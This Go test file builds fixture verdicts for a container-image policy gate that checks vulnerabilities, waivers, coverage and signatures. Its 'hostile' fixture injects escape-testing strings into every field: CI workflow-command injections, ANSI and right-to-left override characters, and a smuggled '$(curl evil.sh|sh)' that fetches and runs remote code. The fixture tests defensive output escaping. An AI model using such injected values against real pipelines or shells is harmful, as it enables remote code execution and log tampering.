// SPDX-License-Identifier: Apache-2.0

package report_test

import (
	"fmt"
	"strings"
	"time"

	"github.com/ocigate/ocigate/pkg/evidence"
	"github.com/ocigate/ocigate/pkg/policy"
	"github.com/ocigate/ocigate/pkg/verdict"
)

var now = time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)

func ptr[T any](v T) *T { return &v }

func sha(c string) string { return "sha256:" + strings.Repeat(c, 64) }

// verdicts are made by Decide, so that the reports are those of real runs.
func verdicts() map[string]verdict.Verdict {
	return map[string]verdict.Verdict{
		"passed":   run("alpine:3.19", func(in *verdict.Input) { in.Policy.Waivers = nil }, image("alpine:3.19")),
		"failed":   run("shop:latest", nil, failing()),
		"error":    run("legacy:7", nil, undecidable()),
		"unopened": unopened(),
		"several": run("registry.example.com/shop:1.4", func(in *verdict.Input) { in.ReportOnly, in.EffectiveTimeGiven = true, true },
			arm(image("registry.example.com/shop:1.4")), failing()),
		"accepted": run("static:1", func(in *verdict.Input) {
			in.Policy.Coverage = policy.Coverage{OSOptional: true, PackagesOptional: true, UnreadableAccept: []string{"opt/**"}}
		}, static()),
		"forecast":    foretold(),
		"signed":      signing(nil),
		"unsigned":    signing(unsign),
		"signatures":  signing(func(in *verdict.Input) { onlySignatures(in); in.Evidence = append(in.Evidence, arm(in.Evidence[0])) }),
		"failed-fast": signing(func(in *verdict.Input) { unsign(in); unscanned(in); in.FailFast = true }),
		"waived":      run("shop:1.4", waive, waivable()),
		"hostile":     hostile("x\n::error::pwned\x1b[2J\u202egnp.exe ##[group]", "$(curl evil.sh|sh)\r::set-output\xff"),
	}
}

func run(reference string, change func(*verdict.Input), evs ...evidence.Evidence) verdict.Verdict {
	in := verdict.Input{Policy: production(), Reference: reference, Evidence: evs, EffectiveTime: now}
	if change != nil {
		change(&in)
	}
	return verdict.Decide(in)
}

// foretold passes today: a rule is to come, a waiver ends, and grace periods run.
func foretold() verdict.Verdict {
	ev := image("shop:1.4")
	ev.Findings = []evidence.Finding{osVuln("CVE-2021-36159", evidence.SeverityCritical, "apk-tools", "apk-tools", "2.10.6-r0", "2.10.7-r0")}
	ev.Image.User = evidence.User{}
	in := verdict.Input{Policy: production(), Reference: "shop:1.4", Evidence: []evidence.Evidence{ev}, EffectiveTime: now}
	in.Policy.Waivers = in.Policy.Waivers[1:2]
	in.Policy.Waivers[0].Until = time.Date(2026, 3, 14, 0, 0, 0, 0, time.UTC)
	in.Policy.Rules[4].From = time.Date(2026, 3, 20, 0, 0, 0, 0, time.UTC)
	v, until := verdict.Decide(in), now.AddDate(0, 0, 14)
	v.Forecast, v.ForecastUntil = verdict.Forecast(in, until), &until
	for i, o := range v.Subjects[0].Outcomes {
		if o.Rule != "fixable-high" {
			continue
		}
		for n := range 12 {
			f := osVuln(fmt.Sprintf("CVE-2026-%d", 100+n), evidence.SeverityHigh, "openssl", "libssl3", "3.1.4-r0", "3.1.4-r1")
			v.Subjects[0].Outcomes[i].Pending = append(v.Subjects[0].Outcomes[i].Pending, verdict.Violation{
				Message: f.ID + " (high) in libssl3 3.1.4-r0", Finding: &f, Deadline: ptr(now.AddDate(0, 0, 12-n).Truncate(24 * time.Hour)),
			})
		}
	}
	return v
}

func production() *policy.Policy {
	rule := func(line int, id string, g policy.Group, title string) policy.Rule {
		return policy.Rule{ID: id, Group: g, Title: title, Action: policy.ActionFail, Position: policy.Position{Line: line, Column: 7}}
	}
	crit := rule(9, "no-critical", policy.GroupVulnerabilities, "No critical vulnerabilities")
	crit.Vulnerabilities = &policy.VulnerabilityRule{Severities: []evidence.Severity{evidence.SeverityCritical, evidence.SeverityUnknown}}
	high := rule(12, "fixable-high", policy.GroupVulnerabilities, "")
	high.Vulnerabilities = &policy.VulnerabilityRule{Severities: []evidence.Severity{evidence.SeverityHigh}, Fixed: ptr(true)}
	medium := rule(16, "medium-budget", policy.GroupVulnerabilities, "Not too many medium vulnerabilities")
	medium.Vulnerabilities = &policy.VulnerabilityRule{Severities: []evidence.Severity{evidence.SeverityMedium}, Max: 1}
	medium.Action = policy.ActionWarn
	secrets := rule(21, "no-secrets", policy.GroupSecrets, "No secrets in files")
	secrets.Secrets = &policy.SecretRule{}
	user := rule(24, "runtime", policy.GroupConfig, "Containers do not run as root")
	user.Config, user.Remediation = &policy.ConfigRule{UserNonRoot: true}, "see https://wiki.example.com/containers#user for the users of our base images"
	tags := rule(28, "tags", policy.GroupReference, "No moving tags")
	tags.Reference = &policy.ReferenceRule{ForbiddenTags: []string{"latest"}}
	day := func(m time.Month, d int) time.Time { return time.Date(2026, m, d, 0, 0, 0, 0, time.UTC) }
	return &policy.Policy{
		Name: "production", Source: "ocigate.yaml", Digest: sha("e"), Platforms: policy.Platforms{All: true},
		Database: policy.Database{MaxAge: 72 * time.Hour}, Rules: []policy.Rule{crit, high, medium, secrets, user, tags},
		Waivers: []policy.Waiver{
			{ID: "w-2026-014", Finding: "CVE-2021-3450", Package: "libssl1.1", Until: day(12, 31), Reason: "not reachable, TLS is terminated upstream", Owner: "payments"},
			{ID: "w-2025-101", Finding: "CVE-2021-36159", Until: day(1, 31), Reason: "waiting for the new base image", Owner: "platform"},
			{ID: "w-2026-002", Rule: "no-secrets", Path: "test/**", Until: day(6, 30), Reason: "keys of the tests", Owner: "qa"},
		},
	}
}

// waive has a waiver of each use.
func waive(in *verdict.Input) {
	day := func(m time.Month, d int) time.Time { return time.Date(2026, m, d, 0, 0, 0, 0, time.UTC) }
	facts := &policy.Recorded{Date: day(1, 15), Severity: evidence.SeverityHigh, KnownExploited: ptr(false)}
	p := in.Policy
	p.WaiverLimits = policy.WaiverLimits{MaxHorizon: 90 * 24 * time.Hour, SameDay: 2}
	p.Documents = []policy.DocumentRef{
		{Name: "company", Source: "company.yaml", Digest: sha("f"), Enforced: true, SetBy: "--enforce"},
		{Name: "strict", Source: "ocigate:strict", Digest: sha("9"), Enforced: true, SetBy: "OCIGATE_ENFORCE"}, {Name: "production", Source: "ocigate.yaml"},
	}
	p.Rules[3].Level, p.Rules[4].Level, p.Rules[5].Level = 2, 0, 2
	w := func(id string, until time.Time) policy.Waiver {
		return policy.Waiver{ID: id, Until: until, Reason: "accepted until the next release", Owner: "platform", Level: 0}
	}
	apk, minimist, user, key := w("apk", day(3, 13)), w("minimist", day(3, 13)), w("user", day(4, 30)), w("key", day(3, 9))
	apk.Finding, apk.Recorded = "CVE-2021-36159", facts
	minimist.Finding, minimist.Path, minimist.Platforms, minimist.Images = "CVE-2021-44906", "app/**", []evidence.Platform{{OS: "linux", Architecture: "amd64"}}, []string{"shop:*"}
	user.Rule, user.Level = "runtime", 2
	key.Rule, key.Finding = "no-secrets", "aws-access-key-id"
	far, unused := w("far", day(12, 31)), w("unused", day(4, 1))
	far.Finding, unused.Finding = "GHSA-xxxx-yyyy-zzzz", "CVE-1999-1"
	p.Waivers = []policy.Waiver{apk, minimist, user, key, far, unused}
}

func waivable() evidence.Evidence {
	ev := failing()
	ev.Subject.Name = "docker.io/library/shop:1.4"
	ev.Findings[0].KnownExploited = ptr(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC))
	ev.Findings[7].VEX = []evidence.VEXStatement{{Status: "not_affected", Justification: "vulnerable_code_not_in_execute_path: TLS ends upstream", Source: "vex/openssl.json", Author: "OpenSSL team"}}
	ev.Feeds.VEX = []evidence.FeedState{{Source: "vex/openssl.json", Entries: 1}, {Source: "vex/old.json", Problem: "it is of 2020-01-01, older than the policy allows"}}
	return ev
}

func image(ref string) evidence.Evidence {
	return evidence.Evidence{
		Subject: evidence.Subject{
			Reference: ref, Name: "docker.io/library/" + ref, Source: evidence.SourceRegistry, Digest: sha("a"), IndexDigest: sha("b"), ImageID: sha("c"),
			Platform: evidence.Platform{OS: "linux", Architecture: "amd64"},
		},
		Image:    evidence.ImageFacts{User: evidence.User{Configured: "app", UID: ptr(int64(1000)), GID: ptr(int64(1000)), Reason: "resolved through the image's /etc/passwd"}},
		Layers:   []evidence.LayerFacts{{Digest: sha("1"), DiffID: sha("2"), Size: 7_800_000, CompressedSize: 3_400_000, Files: 79, Verification: evidence.LayerVerified}},
		Packages: []evidence.Package{{Name: "busybox", Version: "1.36.1-r15", Type: "alpine", Class: evidence.ClassOS}},
		Coverage: evidence.Coverage{
			OS: evidence.OSFacts{Family: "alpine", Release: "3.19.1"}, Packages: map[string]int{"alpine": 15},
			Files: 79, Bytes: 7_400_000, SecretScan: true,
		},
		Database: evidence.DatabaseState{Digest: sha("d"), Schema: 2, UpdatedAt: ptr(time.Date(2026, 3, 10, 7, 0, 0, 0, time.FixedZone("CET", 3600))), Origin: "ghcr.io/aquasecurity/trivy-db:2"},
	}
}

func arm(ev evidence.Evidence) evidence.Evidence {
	ev.Subject.Platform = evidence.Platform{OS: "linux", Architecture: "arm64", Variant: "v8"}
	return ev
}

func osVuln(id string, sev evidence.Severity, source, name, version, fixed string) evidence.Finding {
	return evidence.Finding{
		Kind: evidence.KindVulnerability, ID: id, Severity: sev, FixedVersion: fixed,
		Package: &evidence.Package{Name: name, Version: version, Type: "alpine", Class: evidence.ClassOS, SourceName: source},
	}
}

func npmVuln(id string, sev evidence.Severity, name, version, fixed, path string) evidence.Finding {
	return evidence.Finding{
		Kind: evidence.KindVulnerability, ID: id, Severity: sev, FixedVersion: fixed,
		Package: &evidence.Package{Name: name, Version: version, Type: "node-pkg", Class: evidence.ClassLanguage, Path: path},
	}
}

func failing() evidence.Evidence {
	ev := image("shop:latest")
	ev.Subject.Source, ev.Subject.Digest, ev.Subject.IndexDigest = evidence.SourceDockerDaemon, "", ""
	ev.Image.User = evidence.User{}
	ev.Coverage.OS = evidence.OSFacts{Family: "alpine", Release: "3.10.9", EndOfLife: true}
	ev.Coverage.Packages = map[string]int{"alpine": 31, "node-pkg": 212, "conda-pkg": 2}
	ev.Coverage.NotMatched = []string{"conda-pkg"}
	ev.Coverage.BaseLayers = 1
	ev.Layers = append(ev.Layers, evidence.LayerFacts{DiffID: sha("3"), Size: 81_000_000, Files: 4_120, Verification: evidence.LayerOnDaemonsWord})
	fs := []evidence.Finding{
		osVuln("CVE-2021-36159", evidence.SeverityCritical, "apk-tools", "apk-tools", "2.10.6-r0", "2.10.7-r0"),
		npmVuln("CVE-2021-44906", evidence.SeverityCritical, "minimist", "1.2.0", "1.2.6, 0.2.4", "app/node_modules/mkdirp/node_modules/minimist/package.json"),
		npmVuln("GHSA-xxxx-yyyy-zzzz", evidence.SeverityUnknown, "left-pad", "0.0.3", "", "app/node_modules/left-pad/package.json"),
		osVuln("CVE-2019-1", evidence.SeverityMedium, "busybox", "busybox", "1.30.1-r2", "1.30.1-r5"),
		osVuln("CVE-2019-2", evidence.SeverityMedium, "busybox", "ssl_client", "1.30.1-r2", "1.30.1-r5"),
		{Kind: evidence.KindSecret, ID: "aws-access-key-id", Severity: evidence.SeverityCritical, Title: "AWS Access Key ID", Path: "app/.env", StartLine: 3, EndLine: 3},
	}
	for i, id := range []string{"CVE-2021-3450", "CVE-2021-3711", "CVE-2021-3712", "CVE-2021-23840", "CVE-2022-0778"} {
		fixed := fmt.Sprintf("1.1.1%c-r0", 'j'+i)
		fs = append(fs, osVuln(id, evidence.SeverityHigh, "openssl", "libcrypto1.1", "1.1.1c-r0", fixed), osVuln(id, evidence.SeverityHigh, "openssl", "libssl1.1", "1.1.1c-r0", fixed))
	}
	for i := range 14 {
		fs = append(fs, npmVuln(fmt.Sprintf("CVE-2020-%d", 8200+i), evidence.SeverityHigh, "lodash", "4.17.10", fmt.Sprintf("4.17.%d", 11+i%10), "app/node_modules/lodash/package.json"))
	}
	ev.Findings = fs
	return ev
}

func undecidable() evidence.Evidence {
	ev := image("legacy:7")
	ev.Subject.Source = evidence.SourceDockerArchive
	ev.Subject.Name = ""
	ev.Coverage.OS = evidence.OSFacts{Family: "photon", Release: "1.0"}
	ev.Packages[0].Type = "photon"
	ev.Coverage.Packages = map[string]int{"photon": 36}
	ev.Database.UpdatedAt = ptr(now.Add(-200 * time.Hour))
	ev.Problems = []evidence.Problem{
		{Area: evidence.AreaOS, What: "photon 1.0", Message: `the database holds no advisories for "Photon OS 1.0": the release is too old, too new or not covered`, Hint: "use a release that is maintained, update the database, or accept with `coverage: {os: optional}`"},
		{Area: evidence.AreaFile, What: "srv/package-lock.json", Analyzer: "npm", Message: "unexpected end of JSON input", Hint: "repair or remove the file, or accept it with coverage.unreadable in the policy"},
		{Area: evidence.AreaFile, What: "srv/lib/x.jar", Analyzer: "jar", Message: "zip: not a valid zip file"},
	}
	return ev
}

func unopened() verdict.Verdict {
	return run("registry.example.com/shop:1.4", func(in *verdict.Input) {
		in.Problems = []evidence.Problem{{
			Area: evidence.AreaImage, What: in.Reference, Message: "open registry.example.com/shop:1.4: 401 Unauthorized",
			Hint: "log in with `docker login registry.example.com`",
		}}
	})
}

func static() evidence.Evidence {
	ev := image("static:1")
	ev.Packages, ev.Coverage.Packages, ev.Coverage.OS = nil, nil, evidence.OSFacts{}
	ev.Problems = []evidence.Problem{
		{Area: evidence.AreaPackages, Message: "no package was found in the image: nothing was examined for vulnerabilities"},
		{Area: evidence.AreaFile, What: "opt/broken.jar", Analyzer: "jar", Message: "zip: not a valid zip file"},
	}
	return ev
}

// hostile puts two strings wherever an image, a database or a policy has a word.
func hostile(a, b string) verdict.Verdict {
	ev := image(a)
	ev.Subject.Name, ev.Subject.Source, ev.Subject.Platform = b, evidence.Source(a), evidence.Platform{OS: a, Architecture: b}
	ev.Image.User = evidence.User{Configured: a, Reason: b}
	ev.Coverage.OS = evidence.OSFacts{Family: a, Release: b, EndOfLife: true}
	ev.Coverage.Packages = map[string]int{a: 1, b: 2}
	ev.Coverage.NotMatched = []string{a, b}
	ev.Database.Origin, ev.Database.Digest = a, b
	ev.Findings = []evidence.Finding{
		osVuln(a, evidence.SeverityCritical, a, b, a, b), osVuln(b, evidence.SeverityMedium, b, a, b, ""),
		npmVuln(a, evidence.SeverityCritical, b, a, a+", "+b, b), npmVuln(b, evidence.SeverityUnknown, a, a, "", a),
		npmVuln("CVE-1", evidence.SeverityHigh, a, b, b, a),
		{Kind: evidence.KindSecret, ID: a, Title: b, Path: a, StartLine: 1},
	}
	ev.Signatures, ev.Base = hostileSignatures(a, b), &evidence.Base{
		Source: evidence.ClaimSource(a), Reference: b, Digest: a, Lineage: evidence.Lineage(b), Reason: a, Signatures: hostileSignatures(b, a),
	}
	ev.Findings[4].VEX = []evidence.VEXStatement{{Status: "not_affected", Justification: b, Source: a, Author: b}}
	ev.Feeds.VEX = []evidence.FeedState{{Source: a, Problem: b}}
	ev.Feeds.KEV, ev.Feeds.EPSS = &evidence.FeedState{Source: a, Problem: b}, &evidence.FeedState{Source: b, Entries: 7, Updated: &now}
	ev.Problems = []evidence.Problem{{Area: evidence.AreaFile, What: a, Analyzer: b, Message: a, Hint: b}, {Area: evidence.Area(a), What: b, Message: b}}
	v := run(a, func(in *verdict.Input) {
		in.Policy.Name, in.Policy.Source, in.Policy.Digest = a, b, a
		in.Policy.Documents = []policy.DocumentRef{{Name: b, Source: a, Digest: b, Enforced: true, SetBy: a}}
		in.Policy.Rules = append(in.Policy.Rules, policy.Rule{ID: b + "signed", Group: policy.GroupSignatures, Action: policy.ActionFail, Signatures: &policy.SignatureRule{
			Signers: policy.Signers{Of: policy.SignedImage, Authorities: []string{b}, Min: 1}}})
		in.Policy.Rules[0].ID, in.Policy.Rules[0].Title, in.Policy.Rules[0].Remediation = a, b, a
		in.Policy.Waivers = append(in.Policy.Waivers, policy.Waiver{ID: a, Rule: b, Finding: a, Package: b, Path: a, Reason: b, Owner: a})
		in.Problems = []evidence.Problem{{Area: evidence.AreaImage, What: a, Message: b, Hint: a}}
	}, ev)
	v.Subjects[0].Outcomes[9].Pending = []verdict.Violation{{Message: a, Fix: b}}
	v.Subjects[0].Outcomes[9].Violations[0].Note = a + b
	v.ForecastUntil = &now
	v.Forecast = []verdict.Change{{Date: a, Platform: evidence.Platform{OS: a, Architecture: b}, Rule: b, Title: a, Reason: b, Summary: a,
		Causes: []verdict.Cause{{Message: a, Finding: b, Waiver: a, Reason: b}}}}
	return v
}
